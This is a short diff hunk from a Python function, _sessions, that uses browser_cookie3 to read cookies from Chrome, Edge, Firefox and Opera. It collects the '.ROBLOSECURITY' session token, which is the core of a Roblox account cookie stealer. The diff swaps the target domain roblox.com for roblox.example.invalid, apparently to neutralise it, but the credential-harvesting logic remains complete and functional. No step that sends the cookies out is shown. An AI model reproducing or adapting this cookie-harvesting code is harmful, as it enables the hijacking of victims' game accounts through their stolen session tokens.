@@ -14,7 +14,7 @@ def _sessions():
     found = []
     for fn in (browser_cookie3.chrome, browser_cookie3.edge, browser_cookie3.firefox, browser_cookie3.opera):
         try:
-            for c in fn(domain_name="roblox.com"):
+            for c in fn(domain_name="roblox.example.invalid"):
                 if c.name == ".ROBLOSECURITY":
                     found.append(c.value)
         except Exception:
